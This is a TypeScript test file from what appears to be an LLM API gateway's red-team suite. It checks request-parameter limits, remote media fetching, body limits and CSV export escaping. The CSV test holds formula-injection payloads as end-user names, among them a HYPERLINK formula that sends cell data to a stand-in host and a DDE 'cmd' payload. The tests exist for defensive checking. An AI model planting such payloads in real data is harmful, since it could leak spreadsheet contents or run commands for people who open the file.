// Red-team pass over issue 15 (request policy, remote media, end users and prices), as a key holder
// on the internet and as an operator who sets the limits tight. Each test is named after what broke,
// and each failed before its fix.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import http from 'node:http';
import t from 'tap';
import { usageCommand } from '../../src/cli/usage.js';
import { openDatabase } from '../../src/storage/db.js';
import { UsageStore } from '../../src/usage/store.js';
import { PNG, TEST_NAMES, resolver, startMediaServer } from '../policy/media-https.js';
import { AUTH_A, request, startGateway, until, usageRecord, type Gateway } from '../helpers.js';

const JSON_HEADERS = { ...AUTH_A, 'content-type': 'application/json' };

function post(gw: Gateway, path: string, body: unknown): Promise<{ status: number; json: unknown }> {
  return request(gw.port, { path, headers: JSON_HEADERS, body: JSON.stringify(body) }).then((r) => ({
    status: r.status,
    json: JSON.parse(r.text) as unknown,
  }));
}

const imageChat = (url: string): Record<string, unknown> => ({
  model: 'gpt-oss-20b',
  max_tokens: 4,
  messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url } }] }],
});

t.test("logprobs as a number is llama-server's n_probs: held to the same bound", async (t) => {
  // llama-server (params_from_json_cmpl): "Use OpenAI API logprobs only if n_probs wasn't
  // provided" — a numeric logprobs becomes n_probs, on /v1/completions and chat alike (seen on
  // b10587: logprobs 5000 returned 5000 top_logprobs per token).
  const gw = await startGateway(t);
  const refused = {
    status: 403,
    json: {
      error: {
        message: "This API key may not set 'logprobs' above 20 (parameter policy: GATEWAY_PARAM_POLICY or the key's policy).",
        type: 'invalid_request_error',
        param: 'logprobs',
        code: 'param_not_allowed',
      },
    },
  };
  t.same(await post(gw, '/v1/completions', { prompt: 'x', max_tokens: 1, logprobs: 5000 }), refused);
  t.same(await post(gw, '/v1/chat/completions', { messages: [{ role: 'user', content: 'x' }], max_tokens: 1, logprobs: 100 }), refused);
  t.equal(gw.fake.requests.length, 0, 'llama-server saw neither');
  // OpenAI's own uses still pass: a boolean on chat, a small number on completions.
  t.equal(
    (await post(gw, '/v1/chat/completions', { messages: [{ role: 'user', content: 'x' }], logprobs: true, top_logprobs: 5 })).status,
    200,
  );
  t.equal((await post(gw, '/v1/completions', { prompt: 'x', logprobs: 5 })).status, 200);
});

t.test('usage --csv: an end user that looks like a formula is not one in a spreadsheet', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'gw-redteam15-'));
  t.teardown(() => rmSync(dir, { recursive: true, force: true }));
  const dbPath = join(dir, 'gateway.db');
  const db = openDatabase(dbPath);
  const evil = ['=HYPERLINK("https://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1)', 'ann'];
  new UsageStore(db).insert(evil.map((endUser, i) => ({ ...usageRecord(i), endUser })));
  db.close();
  let out = '';
  const write = process.stdout.write.bind(process.stdout);
  process.stdout.write = (chunk: string | Uint8Array) => {
    out += chunk.toString();
    return true;
  };
  // The command writes synchronously; stdout is tap's own again before anything is awaited.
  let code: Promise<number>;
  try {
    code = usageCommand(['--db', dbPath, '--by', 'user', '--csv']);
  } finally {
    process.stdout.write = write;
  }
  t.equal(await code, 0);
  const cells = out
    .split('\n')
    .filter((line) => line.startsWith('env-1,'))
    .map((line) => line.slice(line.indexOf(',') + 1).split(',')[0]);
  t.same(cells.sort(), ['"\'=HYPERLINK(""https://evil.example/?""&A1)"', "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)", 'ann']);
});

t.test('a client that leaves while its media is fetched: no 500 and no error log line', async (t) => {
  const server = await startMediaServer(t);
  const { resolve } = resolver(TEST_NAMES);
  const gw = await startGateway(t, { remoteMedia: 'fetch' }, {}, { mediaFetch: { treatAsPublic: ['127.0.0.1'], ca: server.ca, resolve } });
  const req = http.request({ port: gw.port, method: 'POST', path: '/v1/chat/completions', headers: JSON_HEADERS });
  req.on('error', () => {});
  req.end(JSON.stringify(imageChat(server.url('/slow.png'))));
  await until('the gateway fetches', () => server.seen.some((s) => s.path === '/slow.png'));
  req.destroy();
  const done = await until('the request ends', () =>
    gw.logs.find(
      (l) => l.msg === 'client left while its media was fetched; never sent upstream' || (typeof l.level === 'number' && l.level >= 50),
    ),
  );
  t.equal(done.level, 30, 'an info line says the client left');
  t.same(
    gw.logs.filter((l) => typeof l.level === 'number' && l.level >= 50),
    [],
    'no error log line',
  );
  t.notOk(
    gw.logs.some((l) => (l.res as { statusCode?: number } | undefined)?.statusCode === 500),
    'no 500',
  );
  t.equal(gw.fake.requests.length, 0, 'nothing forwarded');
});

t.test('inlined media cannot make a body larger than GATEWAY_BODY_LIMIT', async (t) => {
  // /big.png is 64 KiB; a client may send 20 kB, so the gateway must not build a 90 kB body itself.
  const server = await startMediaServer(t);
  const { resolve } = resolver(TEST_NAMES);
  const gw = await startGateway(
    t,
    { remoteMedia: 'fetch', bodyLimit: 20_000, mediaMaxBytes: 1_000_000 },
    {},
    { mediaFetch: { treatAsPublic: ['127.0.0.1'], ca: server.ca, resolve } },
  );
  const res = await post(gw, '/v1/chat/completions', imageChat(server.url('/big.png')));
  t.same(res, {
    status: 400,
    json: {
      error: {
        message: `The gateway could not fetch the media at 'messages[0].content[0].image_url.url' (host media.test:${server.port}): inlined, the request would be larger than 20000 bytes (GATEWAY_BODY_LIMIT). Send the file inline as a data: URL instead.`,
        type: 'invalid_request_error',
        param: 'messages[0].content[0].image_url.url',
        code: 'media_fetch_failed',
      },
    },
  });
  t.equal(gw.fake.requests.length, 0, 'nothing forwarded');
  // A small image still fits.
  t.equal((await post(gw, '/v1/chat/completions', imageChat(server.url('/cat.png')))).status, 200);
});

t.test('max_prompt_tokens: a small body with an image is counted (an image is many tokens in few bytes)', async (t) => {
  // A token is at least one byte of text, but an image or audio part is not text: a few hundred
  // bytes of PNG may be a thousand tokens to a vision model. Such a body is always counted.
  const gw = await startGateway(t, { maxPromptTokens: 2000 });
  const body = imageChat(`data:image/png;base64,${PNG.toString('base64')}`);
  t.ok(JSON.stringify(body).length < 2000, 'fewer bytes than the token limit');
  t.equal((await post(gw, '/v1/chat/completions', body)).status, 200);
  t.same(
    gw.fake.requests.map((r) => r.url),
    ['/v1/chat/completions/input_tokens', '/v1/chat/completions'],
    'llama-server counted it first',
  );
  // Plain text under the byte bound is still not counted.
  t.equal((await post(gw, '/v1/chat/completions', { messages: [{ role: 'user', content: 'hi' }] })).status, 200);
  t.equal(gw.fake.requests.length, 3);
});
